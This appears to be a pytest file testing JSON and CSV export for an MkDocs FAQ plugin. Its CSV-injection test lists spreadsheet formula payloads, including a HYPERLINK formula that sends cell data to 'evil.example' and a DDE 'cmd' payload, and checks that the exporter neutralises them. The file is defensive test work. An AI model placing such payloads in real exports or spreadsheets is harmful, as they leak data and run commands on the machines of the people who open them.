"""`export.py`: the knowledge base as JSON-ready data, JSON text and CSV, built without MkDocs."""

from __future__ import annotations

import csv
import datetime
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import MINIMAL_FAQ
from hypothesis import given
from hypothesis import strategies as st

from mkdocs_faq_plugin.pages.export import (
    CSV_COLUMNS,
    FORMULA_STARTS,
    export_data,
    page_url,
    to_csv,
    to_json,
)
from mkdocs_faq_plugin.text import markdown_to_text
from mkdocs_faq_plugin.layout import SiteLayout
from mkdocs_faq_plugin.kb.loading import load_knowledge_base
from mkdocs_faq_plugin.kb.model import Category, KnowledgeBase, Question, Source, Term


def _kb(tmp_path: Path, text: str = MINIMAL_FAQ) -> KnowledgeBase:
    (tmp_path / "faq.yml").write_text(text, encoding="utf-8")
    return load_knowledge_base("faq.yml", str(tmp_path))


def test_data_has_the_documented_shape(tmp_path: Path) -> None:
    data = export_data(_kb(tmp_path))
    assert set(data) == {"version", "title", "categories", "questions", "glossary"}
    assert data["version"] == 1 and data["title"] == "Widget FAQ"
    assert data["categories"] == [
        {"id": "basics", "title": "The basics", "description": "", "url": "faq/basics/"},
        {"id": "usage", "title": "Using widgets", "description": "", "url": "faq/usage/"},
    ]
    first = data["questions"][0]
    assert set(first) == {
        "id", "question", "answer_markdown", "answer_text", "category", "tags", "related",
        "sources", "url",
    }
    assert first["id"] == "what-is-a-widget"
    assert first["question"] == "What is a widget?"
    assert first["answer_markdown"].startswith(
        "A widget is a small tool. It has many parameters; see [tuning](faq:"
    )
    assert first["answer_text"] == (
        "A widget is a small tool. It has many parameters; see tuning and the glossary entry."
    )
    assert first["category"] == "basics"
    assert first["tags"] == ["intro"]
    assert first["url"] == "faq/basics/#what-is-a-widget"
    second = data["questions"][1]
    assert second["sources"] == [{"title": "Widget manual", "url": "https://example.org/manual"}]
    assert second["url"] == "faq/usage/#tuning-widgets"
    assert [t["id"] for t in data["glossary"]] == ["foundation-model", "parameter", "fine-tuning"]
    assert data["glossary"][0] == {
        "id": "foundation-model", "term": "foundation model", "aliases": ["FM"],
        "definition": "A large model trained on broad data.", "details_markdown": "",
        "see": [], "url": "glossary/#foundation-model",
        "case_sensitive": None, "annotate": "auto", "variants": True,
    }


def test_related_questions_are_listed_both_ways(tmp_path: Path) -> None:
    data = export_data(_kb(tmp_path))
    related = {q["id"]: q["related"] for q in data["questions"]}
    assert related == {
        "what-is-a-widget": ["tuning-widgets"], "tuning-widgets": ["what-is-a-widget"],
    }


def test_without_categories_questions_live_on_the_faq_index() -> None:
    kb = KnowledgeBase(questions=(Question("a", "A?", "x"),), glossary=(Term("t", "T", "d"),))
    data = export_data(kb)
    assert data["categories"] == []
    assert data["questions"][0]["url"] == "faq/#a"
    assert data["questions"][0]["category"] is None


def test_base_url_makes_every_url_absolute(tmp_path: Path) -> None:
    kb = _kb(tmp_path)
    for base in ("https://example.org/docs", "https://example.org/docs/"):
        data = export_data(kb, base_url=base)
        question_url = "https://example.org/docs/faq/basics/#what-is-a-widget"
        assert data["questions"][0]["url"] == question_url
        assert data["categories"][1]["url"] == "https://example.org/docs/faq/usage/"
        assert data["glossary"][1]["url"] == "https://example.org/docs/glossary/#parameter"


def test_layout_options_change_the_urls(tmp_path: Path) -> None:
    kb = _kb(tmp_path)
    layout = SiteLayout(kb, faq_dir="help/faq", glossary_page="reference/terms.md")
    data = export_data(kb, layout)
    assert data["questions"][0]["url"] == "help/faq/basics/#what-is-a-widget"
    assert data["glossary"][0]["url"] == "reference/terms/#foundation-model"
    flat = export_data(kb, layout, directory_urls=False)
    assert flat["questions"][0]["url"] == "help/faq/basics.html#what-is-a-widget"
    assert flat["glossary"][0]["url"] == "reference/terms.html#foundation-model"


@pytest.mark.parametrize(
    ("source", "directory", "flat"),
    [
        ("faq/index.md", "faq/", "faq/index.html"),
        ("faq/basics.md", "faq/basics/", "faq/basics.html"),
        ("glossary.md", "glossary/", "glossary.html"),
        ("index.md", "", "index.html"),
        ("my faq/a b.md", "my%20faq/a%20b/", "my%20faq/a%20b.html"),
    ],
)
def test_page_url(source: str, directory: str, flat: str) -> None:
    assert page_url(source) == directory
    assert page_url(source, directory_urls=False) == flat


def test_json_is_deterministic_sorted_and_round_trips(tmp_path: Path) -> None:
    data = export_data(_kb(tmp_path))
    text = to_json(data)
    assert text == to_json(export_data(_kb(tmp_path)))
    assert json.loads(text) == data
    assert text.endswith("}\n")
    keys = list(json.loads(text, object_pairs_hook=lambda pairs: [k for k, _ in pairs]))
    assert keys == sorted(keys)


def test_json_keeps_non_ascii_text_readable() -> None:
    kb = KnowledgeBase(questions=(Question("cafe", "Où est le café ?", "Ici — « là »"),))
    text = to_json(export_data(kb))
    assert "Où est le café ?" in text and "\\u" not in text


def test_csv_has_one_row_per_question_and_round_trips() -> None:
    kb = KnowledgeBase(
        title="T",
        categories=(Category("basics", "The basics"),),
        questions=(
            Question(
                "a", 'Say "hi", then?', "Line one,\nline **two**.", "basics", ("x", "y z"),
                ("b",), (Source("Manual", "https://e.org/m"), Source("FAQ", "/faq/")),
                owner="docs", reviewed=datetime.date(2026, 1, 31),
            ),
            Question("b", "B?", "=1+1", "basics"),
        ),
    )
    text = to_csv(kb, base_url="https://e.org")
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 2
    first = rows[0]
    assert first["id"] == "a"
    assert first["question"] == 'Say "hi", then?'
    assert first["category"] == "basics" and first["category_title"] == "The basics"
    assert first["tags"].split("\n") == ["x", "y z"]
    assert first["related"] == "b"
    assert first["answer_markdown"] == "Line one,\nline **two**."
    assert first["answer_text"] == "Line one, line two."
    assert first["sources"].split("\n") == ["Manual <https://e.org/m>", "FAQ </faq/>"]
    assert first["owner"] == "docs" and first["reviewed"] == "2026-01-31"
    assert first["url"] == "https://e.org/faq/basics/#a"
    assert rows[1]["related"] == "a"  # backlink
    assert rows[1]["answer_markdown"] == "'=1+1"  # shown as text by spreadsheets
    assert rows[1]["owner"] == "" and rows[1]["reviewed"] == ""


def test_export_is_pure() -> None:
    kb = KnowledgeBase(questions=(Question("a", "A?", "x", tags=("t",)),))
    first = export_data(kb)
    first["questions"][0]["tags"].append("changed")
    assert export_data(kb)["questions"][0]["tags"] == ["t"]
    assert kb.questions[0].tags == ("t",)


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("Plain *emphasis*, **strong**, __strong__, _em_ and ~~gone~~.",
         "Plain emphasis, strong, strong, em and gone."),
        ("See [the FAQ](faq:a) and [terms](glossary: \"Title\").", "See the FAQ and terms."),
        ("![a chart](chart.png) <https://example.org> [ref][1]\n\n[1]: https://e.org",
         "a chart https://example.org ref"),
        ("Use `snake_case_names` and `**not bold**`.", "Use snake_case_names and **not bold**."),
        ("snake_case_names and 2 * 3 * 4 stay", "snake_case_names and 2 * 3 * 4 stay"),
        ("***both*** and **bold _and italic_**, a == b, a ** b",
         "both and bold and italic, a == b, a ** b"),
        ("**unclosed " * 3, "unclosed unclosed unclosed"),
        ("An \\*escaped\\* star &amp; <b>tags</b> &lt;kept&gt;", "An *escaped* star & tags <kept>"),
        ("# Title #\nText.", "Title\n\nText."),
        ("- one\n- two\n\n1. first\n2) second", "one\n\ntwo\n\nfirst\n\nsecond"),
        ("> quoted\n> text", "quoted text"),
        ("| a | b |\n|---|:-:|\n| 1 | 2 |", "a b 1 2"),
        ('!!! note "Careful"\n    Body.', "Careful\n\nBody."),
        ("```python\nx = a * b * c  # _x_\n```\nAfter.", "x = a * b * c  # _x_\n\nAfter."),
        ("Text {: .class } <!-- hidden -->end[^1]", "Text end"),
        ("", ""),
    ],
)
def test_markdown_to_text(markdown: str, text: str) -> None:
    assert markdown_to_text(markdown) == text


def test_export_module_does_not_import_mkdocs() -> None:
    code = (
        "import sys, mkdocs_faq_plugin.pages.export, mkdocs_faq_plugin.cli; "
        "print(sorted(m for m in sys.modules if m == 'mkdocs' or m.startswith('mkdocs.')))"
    )
    output = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert output.strip() == "[]"


FORMULAS = [
    "=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_that_start_like_formulas_are_neutralised(formula: str) -> None:
    """OWASP "CSV injection": every cell, question and answer alike, starts with `'`."""
    kb = KnowledgeBase(
        questions=(Question("a", formula, formula, tags=(formula,), owner=formula),),
    )
    row = next(csv.DictReader(io.StringIO(to_csv(kb), newline="")))
    for column in ("question", "answer_markdown", "answer_text", "tags", "owner"):
        assert row[column].startswith("'"), column
        assert row[column][1:2] == formula[:1] or column == "answer_text"
    assert export_data(kb)["questions"][0]["question"] == formula  # JSON keeps the text


@given(st.text(max_size=20))
def test_no_csv_cell_starts_like_a_formula(text: str) -> None:
    kb = KnowledgeBase(questions=(Question("a", text or "q", text or "a", owner=text or None),))
    header, row = list(csv.reader(io.StringIO(to_csv(kb), newline="")))
    assert header == list(CSV_COLUMNS)
    for cell in row:
        assert not cell.startswith(FORMULA_STARTS)
    written = row[CSV_COLUMNS.index("question")]
    expected = text or "q"
    assert written == (f"'{expected}" if expected.startswith(FORMULA_STARTS) else expected)
